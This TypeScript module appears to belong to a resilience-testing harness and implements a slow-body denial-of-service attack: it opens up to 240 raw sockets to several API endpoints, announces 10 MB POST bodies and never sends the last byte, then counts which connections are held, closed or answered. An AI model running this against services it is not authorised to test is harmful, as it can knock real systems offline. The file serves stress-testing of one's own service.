// Sends bodies whose last byte never comes.

import { connect } from "node:net";
import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
import { ANON_KEY } from "../callers.ts";

const BODY_BYTES = 10 * 2 ** 20;
const SOCKETS: Readonly<Record<string, number>> = {
  "/graphql": 120,
  "/rest/v1/marks": 40,
  "/users": 40,
  "/auth/login": 40,
};
const PIECE = Buffer.alloc(64 * 1024, " ");

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  const paths = Object.entries(SOCKETS).flatMap(([path, sockets]) => Array<string>(sockets).fill(path));
  await repeat(target, { times: paths.length, pauseMs: 250 }, async (index) => {
    outcomes.count(await hold(new URL(paths[index]!, target.url), target.until));
  });
  return outcomes.result;
};

/** Resolves with the outcome: the status of a response, `closed`, or `held` until the end time. */
function hold({ hostname, port, pathname }: URL, until: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    const end = (how: string) => {
      clearTimeout(stop);
      socket.destroy();
      resolve(how);
    };
    const stop = setTimeout(() => end("held"), Math.max(0, until - Date.now()));
    socket.on("error", (error) => end(failureOf(error)));
    socket.on("close", () => end("closed"));
    socket.on("data", (data) => end(data.toString("latin1", 9, 12)));
    const head = `Host: ${hostname}\r\nContent-Type: application/json\r\napikey: ${ANON_KEY}`;
    socket.write(`POST ${pathname} HTTP/1.1\r\n${head}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
    let missing = BODY_BYTES - 1;
    const send = () => {
      while (missing > 0 && !socket.destroyed) {
        const piece = PIECE.subarray(0, missing);
        missing -= piece.length;
        if (!socket.write(piece)) return;
      }
    };
    socket.on("drain", send);
    socket.once("connect", send);
  });
}
